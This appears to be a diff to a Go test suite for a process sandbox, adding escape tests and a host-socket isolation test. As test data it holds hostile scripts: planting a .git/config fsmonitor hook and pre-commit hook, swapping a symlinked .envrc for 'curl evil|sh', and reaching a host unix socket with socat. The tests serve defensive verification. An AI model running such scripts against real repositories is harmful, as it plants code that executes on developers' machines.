@@ -165,6 +165,64 @@ func TestEscapesFail(t *testing.T) {
 			},
 		},
 		{
+			name: "carry .git away and plant a new one",
+			pol:  ww,
+			script: func(w world) string {
+				return `mv .git .git2 || exit 0; mkdir .git && cp -r .git2/objects .git2/refs .git2/HEAD .git/ && printf '[core]\n\tfsmonitor = touch /tmp/pwned\n' > .git/config`
+			},
+			check: func(t *testing.T, w world) {
+				if b, _ := os.ReadFile(filepath.Join(w.ws, ".git/config")); strings.Contains(string(b), "fsmonitor") {
+					t.Fatalf(".git/config planted: %s", b)
+				}
+				if exists(filepath.Join(w.ws, ".git2")) {
+					t.Fatal(".git was renamed")
+				}
+			},
+		},
+		{
+			name: "swap a symlinked .envrc",
+			pol:  ww,
+			setup: func(t *testing.T, w world) {
+				if err := os.WriteFile(filepath.Join(w.ws, "envrc.real"), []byte("export OK=1\n"), 0o644); err != nil {
+					t.Fatal(err)
+				}
+				if err := os.Symlink("envrc.real", filepath.Join(w.ws, ".envrc")); err != nil {
+					t.Fatal(err)
+				}
+			},
+			script: func(w world) string { return "echo pwn >> .envrc; rm -f .envrc && echo 'curl evil|sh' > .envrc" },
+			check: func(t *testing.T, w world) {
+				if l, err := os.Readlink(filepath.Join(w.ws, ".envrc")); err != nil || l != "envrc.real" {
+					t.Fatalf(".envrc is no longer the link: %q %v", l, err)
+				}
+				if b, _ := os.ReadFile(filepath.Join(w.ws, "envrc.real")); string(b) != "export OK=1\n" {
+					t.Fatalf("link target changed: %q", b)
+				}
+			},
+		},
+		{
+			name: "swap a symlinked .git folder",
+			pol:  ww,
+			setup: func(t *testing.T, w world) {
+				if err := os.Rename(filepath.Join(w.ws, ".git"), filepath.Join(w.ws, "real.git")); err != nil {
+					t.Fatal(err)
+				}
+				if err := os.Symlink("real.git", filepath.Join(w.ws, ".git")); err != nil {
+					t.Fatal(err)
+				}
+			},
+			script: func(w world) string {
+				return `rm .git && mkdir -p .git/hooks && printf '[core]\n\tfsmonitor = evil\n' > .git/config && echo evil > .git/hooks/pre-commit`
+			},
+			check: func(t *testing.T, w world) {
+				for _, n := range []string{".git/config", ".git/hooks/pre-commit"} {
+					if b, err := os.ReadFile(filepath.Join(w.ws, n)); err == nil && strings.Contains(string(b), "evil") {
+						t.Errorf("%s planted", n)
+					}
+				}
+			},
+		},
+		{
 			name:   "read-only: write into the workspace",
 			pol:    ro,
 			script: func(w world) string { return "echo pwn > inside; mkdir d" },
@@ -243,8 +301,55 @@ func TestNetworkOff(t *testing.T) {
 	// The same script reaches both listeners once network is admitted, so
 	// the test above can see a connection when there is one.
 	_, code, _ := cageRun(t, c, ws, policy.SandboxPolicy{Kind: policy.WorkspaceWrite, NetworkAccess: true}, script)
-	time.Sleep(100 * time.Millisecond)
+	for deadline := time.Now().Add(3 * time.Second); time.Now().Before(deadline) && (loHits.Load() != 1 || outHits.Load() != 1); {
+		time.Sleep(20 * time.Millisecond)
+	}
 	if code != 0 || loHits.Load() != 1 || outHits.Load() != 1 {
 		t.Fatalf("with network admitted: code=%d loopback=%d outside=%d", code, loHits.Load(), outHits.Load())
+	}
+}
+
+func exists(p string) bool {
+	_, err := os.Lstat(p)
+	return err == nil
+}
+
+func TestHostSocketsUnreachable(t *testing.T) {
+	c := newCage(t, Config{})
+	sock := fmt.Sprintf("/run/warden-test-%d.sock", os.Getpid())
+	l, err := net.Listen("unix", sock)
+	if err != nil {
+		t.Fatalf("listen %s: %v", sock, err)
+	}
+	defer l.Close()
+	var hits atomic.Int32
+	go func() {
+		for {
+			conn, err := l.Accept()
+			if err != nil {
+				return
+			}
+			hits.Add(1)
+			_ = conn.Close()
+		}
+	}()
+	ws := gitRepo(t)
+	script := "socat -u OPEN:/dev/null UNIX-CONNECT:" + sock
+	for _, pol := range []policy.SandboxPolicy{{Kind: policy.WorkspaceWrite, NetworkAccess: true}, {Kind: policy.ReadOnly}} {
+		out, _, _ := cageRun(t, c, ws, pol, script)
+		time.Sleep(100 * time.Millisecond)
+		if hits.Load() != 0 {
+			t.Fatalf("policy %+v: a caged process reached a host unix socket: %s", pol, out)
+		}
+	}
+	// Unconfined, the same command connects: the check above can fail.
+	if _, code, _ := cageRun(t, c, ws, policy.SandboxPolicy{Kind: policy.DangerFullAccess}, script); code != 0 {
+		t.Fatal("socat could not connect even unconfined")
+	}
+	for deadline := time.Now().Add(3 * time.Second); time.Now().Before(deadline) && hits.Load() != 1; {
+		time.Sleep(20 * time.Millisecond)
+	}
+	if hits.Load() != 1 {
+		t.Fatalf("unconfined connections: %d", hits.Load())
 	}
 }
